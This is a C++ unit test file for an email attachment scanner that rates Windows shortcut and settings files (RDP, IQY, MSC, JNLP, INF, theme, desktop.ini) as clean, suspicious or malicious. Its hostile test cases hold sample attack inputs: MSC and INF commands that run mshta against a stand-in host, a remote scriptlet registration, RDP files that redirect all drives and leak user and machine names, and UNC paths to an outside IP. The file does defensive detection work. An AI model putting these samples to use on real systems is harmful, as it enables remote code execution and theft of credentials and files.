// The kinds of shortcut_settings.h, and which of all kinds an office may send without a remark.
#include "scanner/active/shortcut_settings.h"

#include <gtest/gtest.h>

#include "model/judge.h"
#include "scanner/active/active_test_tools.h"

namespace sekisho::scanner::active {
namespace {

std::string rdp(std::string_view lines) {
    return "screen mode id:i:2\r\n" + std::string(lines) + "\r\nuse multimon:i:0\r\n";
}
std::string query(std::string_view address) { return "WEB\r\n1\r\n" + std::string(address) + "\r\n"; }
std::string console(std::string_view inside) {
    return "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\">" + std::string(inside) +
           "</MMC_ConsoleFile>";
}
std::string task(std::string_view command, std::string_view parameters) {
    return console("<ConsoleTaskpads><Task Type=\"CommandLine\" Command=\"" + std::string(command) +
                   "\"><CommandLine Directory=\"\" Params=\"" + std::string(parameters) +
                   "\"/></Task></ConsoleTaskpads>");
}
std::string search(std::string_view path) {
    return "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><scope><include path=\"" +
           std::string(path) + "\" attributes=\"0\"/></scope></query></persistedQuery>";
}
std::string jnlp(std::string_view codebase, std::string_view security) {
    return "<?xml version='1.0'?><jnlp codebase=\"" + std::string(codebase) + "\"><security>" +
           std::string(security) + "</security><resources><jar href=\"a.jar\"/></resources></jnlp>";
}
std::string setup(std::string_view lines) {
    return "[Version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall]\r\n" + std::string(lines) + "\r\n";
}

enum class Weight : std::uint8_t { clean, suspicious, malicious };

// The score of the file by itself; what its address and names say comes on top in a mail.
struct Case {
    std::string name;
    std::string bytes;
    std::string file_name;
    std::string ids;
    Weight weight = Weight::clean;
};
class Settings : public testing::TestWithParam<Case> {};
TEST_P(Settings, Judged) {
    const Opened opened = open_file(GetParam().bytes, GetParam().file_name);
    EXPECT_EQ(joined(opened.ids), GetParam().ids) << opened.format << "\n" << opened.evidence;
    const model::Thresholds thresholds;
    const Weight weight = opened.score >= thresholds.malicious    ? Weight::malicious
                          : opened.score >= thresholds.suspicious ? Weight::suspicious
                                                                  : Weight::clean;
    EXPECT_EQ(weight, GetParam().weight) << opened.score;
}

INSTANTIATE_TEST_SUITE_P(
    Honest, Settings,
    testing::Values(
        Case{"bookmark", "[InternetShortcut]\r\nURL=https://example.com/\r\n", "a.url", ""},
        Case{"library_of_the_house", "<libraryDescription><url>\\\\fileserver\\x</url></libraryDescription>",
             "a.library-ms", "shortcut.library"},
        Case{"rdp_of_the_house", rdp("full address:s:ts01\r\ndrivestoredirect:s:*"), "a.rdp", "shortcut.rdp"},
        Case{"console", console("<x>Services (local)</x>"), "a.msc", "file.shortcut"},
        Case{"console_with_links", console("<String>https://go.example.com/fwlink</String>"), "a.msc",
             "file.shortcut"},
        Case{"search_of_the_house", search("\\\\fileserver\\sales"), "a.search-ms", "shortcut.library"},
        Case{"search_of_this_machine", search("C:\\Users\\tanaka\\Documents"), "a.search-ms",
             "shortcut.library"},
        Case{"rates", query("https://rates.example.com/today.htm"), "rates.iqy", "shortcut.web-query"},
        Case{"rates_by_program", query("https://rates.example.com/rates.php?day=1"), "rates.iqy",
             "shortcut.web-query"},
        Case{"data_of_the_house", query("http://intranet/export.txt"), "a.iqy", "shortcut.web-query"},
        Case{"data_at_a_private_address", query("http://192.168.10.5:8080/export.dat"), "a.iqy",
             "shortcut.web-query"},
        Case{"java_of_an_office", jnlp("https://bid.example.go.jp/app", "<all-permissions/>"), "a.jnlp",
             "shortcut.java"},
        Case{"java_of_the_house", jnlp("http://intranet/app", "<all-permissions/>"), "a.jnlp",
             "shortcut.java"},
        Case{"java_in_its_sandbox", jnlp("http://example.com/app", ""), "a.jnlp", "shortcut.java"},
        Case{"rdp_with_drives", rdp("full address:s:ts.example.com\r\ndrivestoredirect:s:*"), "a.rdp",
             "shortcut.rdp shortcut.rdp.redirects"},
        Case{"driver",
             setup("CopyFiles=Files\r\nAddReg=Reg\r\n[Reg]\r\nHKLM,%RunOnce%,x,,\"rundll32.exe "
                   "setupapi.dll,InstallHinfSection\""),
             "driver.inf", ""},
        Case{"driver_with_an_address", setup("; https://example.com/support rundll32.exe\r\nProvider=x"),
             "driver.inf", ""},
        Case{"theme", "[Theme]\r\n[VisualStyles]\r\nPath=%ResourceDir%\\Themes\\Aero\\Aero.msstyles\r\n",
             "a.theme", ""},
        Case{"theme_of_the_house",
             "[Theme]\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\srv\\it\\wall.jpg\r\n", "a.theme", ""},
        Case{"folder", "[.ShellClassInfo]\r\nIconResource=C:\\WINDOWS\\System32\\SHELL32.dll,13\r\n",
             "photos/desktop.ini", ""},
        Case{"folder_of_the_house", "[.ShellClassInfo]\r\nIconResource=\\\\srv\\it\\a.ico,0\r\n",
             "desktop.ini", ""}),
    [](const auto& info) { return info.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Doubtful, Settings,
    testing::Values(
        Case{"console_with_a_task", task("cmd.exe", "/c net view"), "a.msc", "file.shortcut shortcut.command",
             Weight::suspicious},
        Case{"query_over_http", query("http://example.com/rates.php"), "a.iqy",
             "shortcut.web-query shortcut.web-query.remote", Weight::suspicious},
        Case{"data_over_https", query("https://example.invalid/a.dat"), "a.iqy",
             "shortcut.web-query shortcut.web-query.remote", Weight::suspicious},
        Case{"rdp_tells_a_file",
             rdp("full address:s:rds.example.com\r\nremoteapplicationprogram:s:||books\r\n"
                 "remoteapplicationcmdline:s:/open %TEMP%\\a.dat"),
             "a.rdp", "shortcut.rdp shortcut.rdp.redirects", Weight::clean},
        Case{
            "rdp_takes_all",
            rdp("full address:s:zone.example.invalid\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||"
                "a\r\nsignature:s:AAAA"),
            "a.rdp", "shortcut.rdp shortcut.rdp.redirects shortcut.rdp.takes-all", Weight::suspicious},
        Case{"java_over_http", jnlp("http://example.invalid/", "<all-permissions/>"), "a.jnlp",
             "shortcut.java shortcut.java.remote", Weight::suspicious},
        Case{"scriptlet", setup("UnRegisterOCXs=E\r\n[E]\r\n%11%\\scrobj.dll,NI,http://example.invalid/a"),
             "a.inf", "file.shortcut shortcut.command", Weight::suspicious},
        Case{"script_settings", "[ScriptFile]\r\nPath=C:\\tools\\logon.vbs\r\n[Options]\r\nTimeout=0\r\n",
             "a.wsh", "file.script", Weight::suspicious}),
    [](const auto& info) { return info.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Hostile, Settings,
    testing::Values(
        Case{"console_page", console("<String>res://apds.dll/redirect.html?target=javascript:1</String>"),
             "a.msc", "file.shortcut shortcut.command shortcut.console.script", Weight::malicious},
        Case{"console_task_that_fetches",
             task("cmd.exe", "/c rem INERT &amp; mshta http://example.invalid/i"), "a.msc",
             "file.shortcut shortcut.command shortcut.fetch", Weight::malicious},
        Case{"search_elsewhere", search("\\\\192.0.2.7@80\\s"), "a.search-ms",
             "file.shortcut shortcut.library shortcut.remote", Weight::malicious},
        Case{"search_at_a_name", search("\\\\files.example.invalid\\s"), "a.search-ms",
             "file.shortcut shortcut.library shortcut.remote", Weight::malicious},
        Case{"necurs_query", query("http://example.invalid/2.dat"), "a.iqy",
             "shortcut.web-query shortcut.web-query.payload shortcut.web-query.remote", Weight::malicious},
        Case{"query_at_an_address", query("http://192.0.2.7:8080/x"), "a.iqy",
             "shortcut.web-query shortcut.web-query.payload shortcut.web-query.remote", Weight::malicious},
        Case{"rdp_at_an_address",
             rdp("full address:s:192.0.2.7\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||a"),
             "a.rdp", "shortcut.rdp shortcut.rdp.address shortcut.rdp.redirects shortcut.rdp.takes-all",
             Weight::malicious},
        Case{"rdp_at_another_address",
             rdp("alternate full address:s:192.0.2.7\r\nfull address:s:ts01\r\ndrivestoredirect:s:*\r\n"
                 "remoteapplicationprogram:s:||a"),
             "a.rdp", "shortcut.rdp shortcut.rdp.address shortcut.rdp.redirects shortcut.rdp.takes-all",
             Weight::malicious},
        Case{
            "rdp_tells_who_sits_here",
            rdp("full "
                "address:s:zone.example.invalid\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||a\r\n"
                "remoteapplicationcmdline:s:%USERPROFILE% %ComputerName% %USERDNSDOMAIN%"),
            "a.rdp", "shortcut.rdp shortcut.rdp.redirects shortcut.rdp.takes-all shortcut.rdp.tells",
            Weight::malicious},
        Case{"java_at_an_address", jnlp("http://192.0.2.7/", "<all-permissions/>"), "a.jnlp",
             "file.shortcut shortcut.java shortcut.java.remote shortcut.remote", Weight::malicious},
        Case{"script_settings_elsewhere", "[ScriptFile]\r\nPath=\\\\192.0.2.7@80\\s\\a.vbs\r\n", "a.wsh",
             "file.script file.shortcut shortcut.remote", Weight::malicious},
        Case{"theme_elsewhere", "[Theme]\r\n[VisualStyles]\r\nPath=\\\\192.0.2.7\\s\\a.msstyles\r\n",
             "a.theme", "file.shortcut shortcut.remote", Weight::malicious},
        Case{"folder_elsewhere", "[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.7\\s\\a.ico,0\r\n",
             "x/Desktop.ini", "file.shortcut shortcut.remote", Weight::malicious},
        Case{"folder_at_a_name", "[.ShellClassInfo]\r\nIconFile=\\\\files.example.invalid\\s\\a.ico\r\n",
             "desktop.ini", "file.shortcut shortcut.remote", Weight::malicious}),
    [](const auto& info) { return info.param.name; });

TEST(SettingsProperty, CutsAndDamageEnd) {
    expect_cuts_and_damage_end(
        {{task("cmd.exe", "/c mshta http://example.invalid/i"), "a.msc"},
         {search("\\\\192.0.2.7@80\\s"), "a.search-ms"},
         {jnlp("http://example.invalid/", "<all-permissions/>"), "a.jnlp"},
         {setup("RunPreSetupCommands=X\r\n[X]\r\nmshta http://example.invalid/"), "a.inf"},
         {"[ScriptFile]\r\nPath=\\\\192.0.2.7@80\\s\\a.vbs\r\n", "a.wsh"},
         {"[Theme]\r\nPath=\\\\192.0.2.7\\s\r\n", "a.theme"},
         {"[.ShellClassInfo]\r\nIconResource=\\\\192.0.2.7\\s,0\r\n", "desktop.ini"}});
}

}  // namespace
}  // namespace sekisho::scanner::active
